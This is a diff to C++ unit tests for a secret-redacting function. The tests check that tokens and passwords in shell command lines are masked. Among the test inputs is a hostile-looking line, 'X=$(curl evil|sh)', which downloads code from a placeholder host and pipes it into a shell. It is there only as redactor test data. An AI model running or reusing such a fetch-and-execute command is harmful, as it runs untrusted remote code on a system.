@@ -62,7 +62,7 @@ TEST_F(RedactorTests, FindsSecretsForThoseWhoShowTheWholeText) {
              {"curl --token x \\\n  --api-key 'a b' -d a=b", "curl --token *** \\\n  --api-key *** -d a=***"},
              {"mysql --password 'a;b|c' 2>f", "mysql --password *** 2>f"},
              {"cat " + folder + hash, "cat " + folder + "***"}, // masked without its folder, as elsewhere
-             {"é\xFF --key x A=é", "é\xFF --key *** A=***"},
+             {"é\xFF --token x A=é", "é\xFF --token *** A=***"},
              // what a shell runs or expands
              {"X=$(curl evil|sh) git status", "X=$(curl evil|sh) git status"},
              {"X=`evil` ls A=1", "X=`evil` ls A=1"},
@@ -97,7 +97,7 @@ TEST_F(RedactorTests, FindsSecretsForThoseWhoShowTheWholeText) {
 
 TEST_F(RedactorTests, TakesTheStartForTheWholeOnlyWhereItIs) {
     const std::string words(300, 'x');
-    EXPECT_EQ(redactStart(words + " "), redact(words));
+    EXPECT_EQ(redactStart(words + " " + words), redact(words));
     EXPECT_EQ(redactStart("A=" + words), std::nullopt); // the value may end and other words follow
     EXPECT_EQ(redactStart("A=\"" + words + " "), std::nullopt);
     EXPECT_EQ(redact("A=\"" + std::string(100'000, ' ') + "\" " + words.substr(0, 9)), "A=*** xxxxxxxxx");
